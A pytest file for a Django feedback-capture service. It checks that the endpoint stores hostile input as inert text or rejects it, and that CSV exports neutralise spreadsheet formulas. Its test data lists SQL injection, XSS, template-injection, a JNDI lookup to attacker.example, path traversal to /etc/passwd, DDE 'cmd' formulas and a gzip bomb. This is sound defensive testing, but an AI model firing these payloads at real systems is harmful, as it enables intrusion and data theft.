"""A corpus of hostile payloads against the capture endpoint: each gets a 4xx JSON answer that
says what is wrong, or is stored as inert text, exactly as sent. Never a 5xx. And what a
spreadsheet would run, exported as CSV: it stays text."""

import contextlib
import csv
import gzip
import io
import json

import pandas
import pytest

from feedback_loop import exports
from feedback_loop.internal.datasets import freeze
from feedback_loop.models import Dataset, DatasetItem, FeedbackEvent
from tests.conftest import EVENTS_URL, make_event
from tests.factories import TraceFactory

pytestmark = pytest.mark.django_db

INJECTIONS = [
    "'; DROP TABLE feedback_loop_feedbackevent; --",
    '" OR 1=1 --',
    "1); DELETE FROM feedback_loop_trace WHERE (1=1",
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    '=HYPERLINK("http://attacker.example","x")',
    "\u202etxt.exe",  # right-to-left override
    "ﷺ" * 50 + "\U0001f4a9" * 50,
]
TEXT_FIELDS = ["comment", "text", "name", "session_id", "user_id", "output"]

# What a spreadsheet runs as a formula (OWASP's list), and the line breaks that start a new row
# when a cell holding them is left unquoted, or a new line inside a quoted cell.
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")
LINE_BREAKS = ("\r", "\n", "\r\n")
CSV_BREAKERS = [
    "Hi there\r=cmd|' /C calc'!A0",  # a bare CR was left unquoted: a second row, a formula
    *(f"{s}cmd|' /C calc'!A0" for s in FORMULA_STARTERS),
    *(f'Hi{b}{s}HYPERLINK("http://evil.example")' for b in LINE_BREAKS for s in FORMULA_STARTERS),
    *(f"{b}{s}1+1" for b in LINE_BREAKS for s in FORMULA_STARTERS),
    "\r",
    "\n",
    "\r\n",
    "ok\r",
    "\n\r=1",
    "\r\r\r=1",
    "a\r\n\r\n\t=1",
    '"quoted",\r=1,"\r\n"=2',
    '=1,"\n@2\r-3',
    "\t\r\n\t=SUM(A1:A9)",
]


@pytest.mark.parametrize("field", TEXT_FIELDS)
@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_are_stored_as_inert_text(project, post_events, field, payload):
    fields = {"kind": "custom", "name": "n", field: payload[:64] if field == "name" else payload}
    if field in ("session_id", "user_id"):
        fields[field] = payload[:128]
    event = make_event(project, **fields)
    response = post_events(project, [event])
    assert response.status_code == 200
    assert response.json()["results"][0]["status"] == "accepted"
    stored = FeedbackEvent.objects.get(event_id=event["event_id"])
    assert getattr(stored, field) == fields[field]
    assert FeedbackEvent.objects.count() == 1  # the table is still there, with one row


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_in_ids_reasons_and_metadata(project, post_events, payload):
    event = make_event(
        project,
        trace_id=payload[:128],
        reasons=[payload[:64]],
        metadata={payload[:100]: payload},
    )
    response = post_events(project, [event])
    assert response.status_code == 200, response.content
    stored = FeedbackEvent.objects.get()
    assert stored.trace_key == payload[:128]
    assert stored.reasons == [payload[:64]]
    assert stored.metadata == {payload[:100]: payload}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("event_id", "'; DROP TABLE x; --"),
        ("kind", "<script>"),
        ("value", "1 OR 1=1"),
        ("timestamp", "2026-01-01'; --"),
        ("token", {"$ne": None}),
    ],
)
def test_injection_where_a_typed_value_belongs_is_a_field_error(project, post_events, field, value):
    event = make_event(project, **{field: value})
    body = post_events(project, [event]).json()
    [result] = body["results"]
    assert result["status"] == "rejected"
    assert result["error"]["field"] == field and result["error"]["message"]


def test_a_gzip_bomb_is_refused_unread(project, client):
    bomb = gzip.compress(b"{" + b" " * 50_000_000 + b"}")  # 50 MB of spaces in 49 KB
    response = client.post(
        EVENTS_URL, data=bomb, content_type="application/json", HTTP_CONTENT_ENCODING="gzip"
    )
    assert response.status_code == 415
    assert "Content-Encoding" in response.json()["error"]["message"]


def test_a_gzip_body_without_its_header_is_not_json(project, client):
    body = gzip.compress(json.dumps({"key": project.public_key, "events": []}).encode())
    response = client.post(EVENTS_URL, data=body, content_type="application/json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] in ("invalid_encoding", "invalid_json")


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"events": [' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"]}",
        b'{"events": "' + b"A" * 2_000_000 + b'"}',
        b"\xff\xfe\x00\x00",
        b'{"events": [1e999999]}',
        b'{"key": "\\ud800", "events": []}',
        b"null",
        b"",
    ],
)
def test_malformed_bodies_get_a_4xx_json_answer(project, client, body):
    response = client.post(EVENTS_URL, data=body, content_type="application/json")
    assert 400 <= response.status_code < 500
    error = response.json()["error"]
    assert error["code"] and error["message"]


def test_the_longest_token_sign_trace_makes_still_verifies(project, post_events):
    # 128 characters outside the BMP in the trace id and the user id: JSON escapes each as
    # 12 bytes, so the token is several kilobytes.
    from feedback_loop import sign_trace
    from feedback_loop.tokens import MAX_TOKEN_CHARS

    trace_id, user_id = "\U0001f4a9" * 128, "\U0001f600" * 128
    token = sign_trace(trace_id, project=project, user_id=user_id)
    assert 4000 < len(token) < MAX_TOKEN_CHARS
    event = make_event(project, trace_id=trace_id, token=token)
    assert post_events(project, [event]).json()["accepted"] == 1
    assert FeedbackEvent.objects.get().user_id == user_id


@pytest.mark.parametrize("value", [{"a": 1}, ["thumbs"], 1, None, True])
def test_a_kind_that_is_not_a_string_is_a_field_error(project, post_events, value):
    # Found by Schemathesis: a dict here was a 500 (it was looked up in a set of kinds).
    [result] = post_events(project, [make_event(project, kind=value)]).json()["results"]
    assert result["error"] == {
        "code": "invalid_field",
        "message": result["error"]["message"],
        "field": "kind",
    }
    assert result["error"]["message"].startswith("kind must be one of")


def test_trace_metadata_is_stored_with_unstorable_characters_replaced(project, client, secret):
    # The server API takes the host's free-form metadata as it is, except for what PostgreSQL
    # cannot store, which becomes U+FFFD.
    from feedback_loop.models import Trace

    response = client.post(
        "/feedback/api/v1/traces",
        data='{"traces": [{"trace_id": "m", "metadata": '
        '{"k\\u0000": ["a\\ud800b", "\\ud83d\\ude00"]}}]}',
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 200, response.content
    assert Trace.objects.get(key="m").metadata == {"k\ufffd": ["a\ufffdb", "\U0001f600"]}


@pytest.mark.parametrize("field", ["input", "output", "model", "session_id", "user_id"])
def test_an_unpaired_surrogate_in_a_trace_field_is_a_400(project, client, secret, field):
    body = '{"traces": [{"trace_id": "s", "FIELD": "a\\udc00"}]}'.replace("FIELD", field)
    response = client.post(
        "/feedback/api/v1/traces",
        data=body,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 400
    assert "unpaired surrogate" in response.json()["error"]["fields"]["traces"]["0"][field][0]


# -- text rules at the capture limits -----------------------------------------------------------
#
# Pathological strings for every rule the package applies to user text, at the capture limits
# (MAX_TEXT_CHARS for answers and edits, 8 KB for an Origin header, the same for an allowlist).
# Each is built by a function of its size, so that the work done at the limit can be compared
# with the work done at half of it: a linear rule does at most about twice the work. The work is
# counted as Python line events (sys.settrace), not timed; the regular expressions left run on
# bounded inputs or are shown linear by tests/test_regex_linear.py. The timeout is a backstop
# only: the quadratic rule this replaced took minutes on the first of these strings.

TEXT_LIMIT = 65_536
HEADER_LIMIT = 8_192
PATHOLOGICAL_TEXT = {
    "newlines": lambda n: "\n" * n,
    "newline-tab": lambda n: "\n\t" * (n // 2),
    "spaces": lambda n: " " * n,
    "blank-then-marker": lambda n: "\n" * (n - 3) + "- x",
    "blank-then-word": lambda n: " \n" * (n // 2 - 1) + "x",
    "crlf": lambda n: "\r\n" * (n // 2),
    "line-separators": lambda n: "\u2028\x85\x0b\x0c" * (n // 4),
    "empty-items": lambda n: "- \n" * (n // 3),
    "markers": lambda n: "-+*>" * (n // 4),
    "digits": lambda n: "1" * n,
    "digit-lines": lambda n: ("9" * 63 + "\n") * (n // 64),
    "arabic-digits": lambda n: "\u0663" * (n - 1) + ".",
    "hashes": lambda n: "#" * n,
    "backticks": lambda n: "`" * n,
    "fence-info": lambda n: "```" + "a-" * ((n - 3) // 2),
    "fences": lambda n: "```-" * (n // 4),
    "punctuation": lambda n: '{}[]",:|`*_#' * (n // 12),
    "json-nesting": lambda n: "[" * n,
    "json-objects": lambda n: '{"a":' * (n // 5),
    "json-digits": lambda n: "[" + "1" * (n - 2) + "]",
    "refusal-ish": lambda n: "I am sorry I can't " * (n // 19),
    "surrogate-pairs": lambda n: "\U0001f4a9\n" * (n // 2),
}
PATHOLOGICAL_ORIGINS = {
    "long-host": lambda n: "https://" + "a" * (n - 8),
    "many-labels": lambda n: "https://" + "a." * ((n - 11) // 2) + "com",
    "hyphens": lambda n: "https://a" + "-" * (n - 10) + "b",
    "long-port": lambda n: "https://example.com:" + "0" * (n - 20),
    "colons": lambda n: "https://" + ":" * (n - 8),
    "at-signs": lambda n: "https://" + "@" * (n - 19) + "example.com",
    "brackets": lambda n: "http://[" + "1:" * ((n - 9) // 2) + "]",
    "percent": lambda n: "https://" + "%41" * ((n - 8) // 3),
    "spaces": lambda n: "https://" + " " * (n - 8),
}
PATHOLOGICAL_ALLOWLISTS = {
    "separators": lambda n: ", \n\r\t" * (n // 5),
    "long-host": lambda n: "a" * (n - 1) + "!",
    "many-labels": lambda n: "a." * (n // 2 - 1) + "!",
    "hyphen-labels": lambda n: "a-" * (n // 2 - 1) + "a.!",
    "wildcards": lambda n: "*." * (n // 2),
    "label-per-line": lambda n: "a-a.\n" * (n // 5),
    "spaced": lambda n: "a " * (n // 2),
}


def steps(function, *args) -> int:
    """How many Python lines ``function(*args)`` runs, in any module."""
    import sys

    count = 0

    def trace(frame, event, arg):
        nonlocal count
        if event == "line":
            count += 1
        return trace

    sys.settrace(trace)
    try:
        function(*args)
    finally:
        sys.settrace(None)
    return count


def assert_linear(function, make, limit):
    at_half, at_limit = steps(function, make(limit // 2)), steps(function, make(limit))
    # Twice the input, at most about twice the work (a small constant covers the set-up).
    assert at_limit <= 2 * at_half + 200, (at_half, at_limit)


class _Event:
    def __init__(self, pk, kind, text="", value=None):
        self.pk, self.kind, self.text, self.value = pk, kind, text, value
        self.reasons, self.output, self.voter, self.user_id, self.session_id = [], "", "", "", ""
        self.timestamp = pk


def _triage(output: str, edited: str) -> list[str]:
    from types import SimpleNamespace

    from feedback_loop.triage import suggest_error_modes

    events = [_Event(1, "thumbs", value=-1), _Event(2, "edit", text=edited)]
    return suggest_error_modes(SimpleNamespace(output=output), events)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", PATHOLOGICAL_TEXT)
def test_triage_of_a_pathological_edit_is_linear(name):
    make = PATHOLOGICAL_TEXT[name]
    assert len(make(TEXT_LIMIT)) <= TEXT_LIMIT
    ordinary = "An ordinary answer of a few words. " * 20
    # As the edit of an ordinary answer, as the answer of an ordinary edit, as both.
    assert_linear(lambda text: _triage(ordinary, text), make, TEXT_LIMIT)
    assert_linear(lambda text: _triage(text, ordinary), make, TEXT_LIMIT)
    assert_linear(lambda text: _triage(text, text + "\n- x"), make, TEXT_LIMIT - 4)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", PATHOLOGICAL_TEXT)
def test_each_text_rule_on_a_pathological_string_is_linear(name):
    from feedback_loop.triage import edit_changes_structure_only, edit_shortens, looks_like_refusal

    make = PATHOLOGICAL_TEXT[name]
    assert_linear(lambda text: edit_changes_structure_only("- a\n- b", text), make, TEXT_LIMIT)
    assert_linear(lambda text: edit_changes_structure_only(text, "- a\n- b"), make, TEXT_LIMIT)
    assert_linear(lambda text: edit_shortens(text, text[:10]), make, TEXT_LIMIT)
    assert_linear(looks_like_refusal, make, TEXT_LIMIT)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", PATHOLOGICAL_ORIGINS)
def test_an_origin_header_at_its_limit_is_checked_in_linear_work(name):
    from feedback_loop.origins import origin_allowed

    make = PATHOLOGICAL_ORIGINS[name]
    allowlist = ["https://app.example.com", "*.example.org", "http://localhost:8000"]
    assert len(make(HEADER_LIMIT)) <= HEADER_LIMIT
    assert not origin_allowed(make(HEADER_LIMIT), allowlist)
    assert_linear(lambda origin: origin_allowed(origin, allowlist), make, HEADER_LIMIT)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", PATHOLOGICAL_ALLOWLISTS)
def test_a_pathological_allowlist_is_parsed_and_validated_in_linear_work(name):
    from django.core.exceptions import ValidationError

    from feedback_loop.origins import parse_allowlist, validate_allowlist

    def validate(text):
        with contextlib.suppress(ValidationError):
            validate_allowlist(text)

    make = PATHOLOGICAL_ALLOWLISTS[name]
    assert_linear(parse_allowlist, make, TEXT_LIMIT)
    assert_linear(validate, make, TEXT_LIMIT)


@pytest.mark.timeout(60)
def test_the_structure_rule_still_reads_markdown_and_json():
    from feedback_loop.triage import edit_changes_structure_only

    answer = "Steps: first do this, then do that.\n\nDone."
    edited = "# Steps\n\n- first do this,\n- then do that.\nDone."
    assert edit_changes_structure_only(answer, edited)
    assert edit_changes_structure_only("a\nb", "1. a\n2) b")
    assert edit_changes_structure_only("code here", "```python\ncode here\n```")
    # One marker a line, also after an empty item (the old pattern kept the second "-").
    assert edit_changes_structure_only("a", "- \n  - a")
    assert not edit_changes_structure_only("a", "-- a")  # not a list marker
    assert not edit_changes_structure_only("1.5 a", "1. 5 a")  # "1.5" is a number
    assert not edit_changes_structure_only("a", "a\n-")  # a dash ending the text is a word
    assert edit_changes_structure_only("a", "- a\n")
    assert not edit_changes_structure_only("x", "[" * TEXT_LIMIT)  # too deep for json: not json


@pytest.mark.timeout(120)
def test_a_pathological_edit_through_capture_and_the_pipeline(project, post_events):
    from feedback_loop import record_trace
    from feedback_loop.internal.pipeline import process_events
    from feedback_loop.models import Trace

    record_trace(project, "p1", input="Q", output="A short answer\n" * 10)
    edits = [
        make_event(project, trace_id="p1", kind="edit", text=make(TEXT_LIMIT), user_id=f"u{i}")
        for i, make in enumerate(PATHOLOGICAL_TEXT.values())
    ]
    for start in range(0, len(edits), 5):  # a batch stays under MAX_BODY_BYTES
        batch = edits[start : start + 5]
        assert post_events(project, batch).json()["accepted"] == len(batch)
    assert process_events(FeedbackEvent.objects.values_list("pk", flat=True)) == len(edits)
    trace = Trace.objects.get(key="p1")
    assert trace.edit_count == len(edits) and trace.sentiment == "negative"


# -- CSV exports -----------------------------------------------------------------------------


def _csv_dataset(project):
    """A dataset whose every column holds a string of CSV_BREAKERS, one item each."""
    dataset = Dataset.objects.create(project=project, name="Breakers")
    for n, text in enumerate(CSV_BREAKERS):
        trace = TraceFactory(project=project, key=f"{text}{n}")
        DatasetItem.objects.create(
            dataset=dataset,
            trace=trace,
            input=text,
            expected_output=f"{n}{text}",
            chosen=text + text,
            rejected=f"{text}\n{text}",
            metadata={text: text},
        )
    # Metadata is any JSON: a negative number starts with "-".
    DatasetItem.objects.create(dataset=dataset, input="last", metadata=-1)
    return dataset


def _line_starts(cell: str):
    """The first character of the cell and of each line in it (after a CR or an LF)."""
    return [cell[i] for i in range(len(cell)) if i == 0 or cell[i - 1] in "\r\n"]


def _assert_runs_nothing(text: str, items: int):
    by_csv = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    by_pandas = pandas.read_csv(
        io.StringIO(text, newline=""), engine="c", dtype=str, keep_default_na=False
    )
    assert by_csv[0] == list(exports.CSV_COLUMNS)
    assert list(by_pandas.columns) == list(exports.CSV_COLUMNS)
    for reading in (by_csv[1:], by_pandas.values.tolist()):
        assert len(reading) == items  # one row per item: no line break made a row of its own
        for row in reading:
            assert len(row) == len(exports.CSV_COLUMNS)
            for cell in row:
                assert not set(_line_starts(cell)) & set(FORMULA_STARTERS), repr(cell)
    # Both readers see the same cells, each the stored text with apostrophes before formulas.
    assert by_csv[1:] == by_pandas.values.tolist()
    for n, text in enumerate(CSV_BREAKERS):
        row = dict(zip(exports.CSV_COLUMNS, by_csv[n + 1], strict=True))
        assert row["input"] == exports.neutralise(text)
        assert row["rejected"] == exports.neutralise(f"{text}\n{text}")
        assert row["source_trace_id"] == exports.neutralise(f"{text}{n}")
        assert json.loads(row["metadata"]) == {text: text}
    assert by_csv[-1][-1] == "'-1"


@pytest.mark.parametrize("frozen", [False, True], ids=["live", "frozen"])
def test_a_csv_export_of_hostile_cells_holds_one_row_per_item_and_no_formula(project, frozen):
    dataset = _csv_dataset(project)
    version = freeze(dataset) if frozen else None
    text = "".join(exports.stream(dataset, "csv", version))
    _assert_runs_nothing(text, len(CSV_BREAKERS) + 1)


@pytest.mark.parametrize("frozen", [False, True], ids=["live", "frozen"])
def test_the_api_csv_export_of_hostile_cells_holds_one_row_per_item_and_no_formula(
    project, client, secret, frozen
):
    dataset = _csv_dataset(project)
    params = {"format": "csv"}
    if frozen:
        params["version"] = freeze(dataset).number
    response = client.get(
        f"/feedback/api/v1/datasets/{dataset.pk}/export",
        params,
        HTTP_AUTHORIZATION=f"Bearer {secret}",
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    _assert_runs_nothing(text, len(CSV_BREAKERS) + 1)


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("Hi\n=1+1", "Hi\n'=1+1"),
        ("Hi\r\n@SUM(A1)", "Hi\r\n'@SUM(A1)"),
        ("Hi\r-1\n+1", "Hi\r'-1\n'+1"),
        ("\r=1", "'\r'=1"),
        ("a=b\nc-d", "a=b\nc-d"),
    ],
)
def test_a_formula_starter_after_any_line_break_gets_an_apostrophe(cell, shown):
    assert exports.neutralise(cell) == shown
    if "\r" in cell or "\n" in cell:
        assert exports.csv_line([cell]) == f'"{cell}"\n'  # quoted, a bare CR too


# -- pathological edits, end to end -------------------------------------------------------------

from tests.test_admin_diff import DIFF_PATHOLOGIES, PATHOLOGY_IDS  # noqa: E402


@pytest.mark.parametrize(("name", "before", "after", "level"), DIFF_PATHOLOGIES, ids=PATHOLOGY_IDS)
def test_a_pathological_edit_is_stored_triaged_and_diffed_with_bounded_work(
    project, post_events, admin_client, django_capture_on_commit_callbacks, name, before, after,
    level,
):  # fmt: skip
    from feedback_loop import record_trace
    from feedback_loop.admin.diff import WORK_BUDGET
    from feedback_loop.models import Trace

    record_trace(project, "t", input="q", output=before)
    event = make_event(project, trace_id="t", kind="edit", value=None, text=after)
    with django_capture_on_commit_callbacks(execute=True):
        response = post_events(project, [event])
    assert response.json()["accepted"] == 1
    trace = Trace.objects.get(project=project, key="t")
    assert trace.edit_count == 1 and trace.sentiment == "negative"
    page = admin_client.get(f"/admin/feedback_loop/trace/{trace.pk}/change/")
    [shown] = page.context["diffs"]
    assert shown["diff"].work <= WORK_BUDGET and shown["diff"].level == level
